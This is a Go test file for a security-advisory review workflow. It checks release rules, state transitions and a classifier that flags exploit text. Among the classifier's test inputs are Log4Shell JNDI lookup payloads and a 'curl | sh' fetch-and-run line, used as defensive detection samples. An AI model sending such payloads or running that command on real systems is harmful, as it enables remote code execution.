package advisory_test

import (
	"slices"
	"testing"
	"time"

	"tocsin/domain/access"
	"tocsin/domain/advisory"
	"tocsin/domain/fault"
	"tocsin/domain/marking"
)

var now = time.Date(2021, 12, 17, 0, 0, 0, 0, time.UTC)

func good() (advisory.Advisory, advisory.Circumstances) {
	text := advisory.Text{Title: "Log4j2", Summary: "remote code execution in 2.0 to 2.14.1", Advice: "update to 2.16.0"}
	return advisory.Advisory{Kind: advisory.Note, Author: "per_1", Grade: "critical", Marking: marking.Clear, Remedy: "2.16.0", En: text, Zh: text},
		advisory.Circumstances{Releaser: "per_2", Grade: "critical", Operators: []string{"Example Telecom"}}
}

func TestAGoodNotePassesTheHouse(t *testing.T) {
	a, c := good()
	if r := advisory.House(a, c, now); len(r) != 0 {
		t.Errorf("%v", r)
	}
	if err := advisory.Closed(nil); err != nil {
		t.Error(err)
	}
}

func TestTheHouseNamesEveryReason(t *testing.T) {
	cases := map[string]func(*advisory.Advisory, *advisory.Circumstances){
		"author":     func(_ *advisory.Advisory, c *advisory.Circumstances) { c.Releaser = "per_1" },
		"embargo":    func(_ *advisory.Advisory, c *advisory.Circumstances) { c.Embargo = true },
		"marking":    func(a *advisory.Advisory, _ *advisory.Circumstances) { a.Marking = marking.Amber },
		"words":      func(a *advisory.Advisory, _ *advisory.Circumstances) { a.En.Advice, a.Zh.Summary = "", "" },
		"addressees": func(a *advisory.Advisory, _ *advisory.Circumstances) { a.Kind = advisory.Warning },
	}
	a, c := good()
	for code, spoil := range cases {
		one, circumstances := good()
		spoil(&one, &circumstances)
		reasons := advisory.House(one, circumstances, now)
		if len(reasons) != 1 || reasons[0].Code != code || reasons[0].Says.Zh == "" || reasons[0].Mend.En == "" {
			t.Errorf("%s: %v", code, reasons)
		}
		spoil(&a, &c)
	}
	all := advisory.House(a, c, now)
	if len(all) != len(cases)-1 { // a warning is not bound to TLP:CLEAR
		t.Errorf("%d reasons at once: %v", len(all), all)
	}
	f := fault.From(advisory.Closed(all))
	if f.Kind != fault.Refused || len(f.Reasons) != len(all) {
		t.Errorf("%v", f)
	}
}

func TestWhoeverWroteAnyVersionCannotReleaseIt(t *testing.T) {
	a, c := good()
	for _, author := range []string{"per_2", "per_3", "per_2", "per_1"} {
		a = a.Rewritten(advisory.Advisory{En: a.En, Zh: a.Zh, Grade: a.Grade, Marking: a.Marking, Remedy: a.Remedy, Earlier: []string{"forged"}}, author)
	}
	if got := a.Authors(); !slices.Equal(got, []string{"per_1", "per_2", "per_3"}) {
		t.Errorf("the authors are %v", got)
	}
	for releaser, barred := range map[string]bool{"per_1": true, "per_2": true, "per_3": true, "per_4": false} {
		c.Releaser = releaser
		if reasons := advisory.House(a, c, now); (len(reasons) == 1 && reasons[0].Code == "author") != barred {
			t.Errorf("%s would release: %v", releaser, reasons)
		}
	}
}

func TestTheTextShowsWhatTheLawAsks(t *testing.T) {
	cases := []struct {
		trait string
		text  string
		want  bool
	}{
		{"contains_operator_details", "the gateway of example telecom is open", true},
		{"contains_operator_details", "the host 203.0.113.7 is open", true},
		{"contains_operator_details", "versions 2.0 to 2.14.1 and 10.1.2", false},
		{"contains_exploit", "send ${jndi:ldap://x/a} in a header", true},
		{"contains_exploit", "send ${ JNDI : rmi://x/a}", true},
		{"contains_exploit", "curl http://x/y | sh", true},
		{"contains_exploit", "an attacker can have code loaded over LDAP through a JNDI lookup", false},
		{"contains_exploit", "update with curl, then restart the shell", false},
	}
	for _, c := range cases {
		a, circumstances := good()
		a.Zh.Summary = c.text
		if got := advisory.Traits(a, circumstances)[c.trait]; got != c.want {
			t.Errorf("%s of %q: %v", c.trait, c.text, got)
		}
	}
	a, c := good()
	a.Grade, a.Remedy = "low", ""
	traits := advisory.Traits(a, c)
	if traits["overstates_severity"] != true || traits["offers_remedy"] != false {
		t.Errorf("%v", traits)
	}
}

func TestEveryStateButWithdrawnLeadsOn(t *testing.T) {
	for _, s := range []advisory.State{advisory.Draft, advisory.InReview, advisory.Released} {
		if len(advisory.Steps.Open(s)) == 0 {
			t.Errorf("%s is a dead end", s)
		}
	}
	if len(advisory.Steps.Open(advisory.Withdrawn)) != 0 {
		t.Error("a withdrawn advisory comes back")
	}
	if !slices.Contains(advisory.Steps.Open(advisory.InReview), access.ReleaseAdvisory) {
		t.Error("a reviewed advisory cannot be released")
	}
	if _, err := advisory.Next(advisory.Draft, access.ReleaseAdvisory); !fault.Is(err, fault.Conflict) {
		t.Error("a draft is released without review")
	}
}
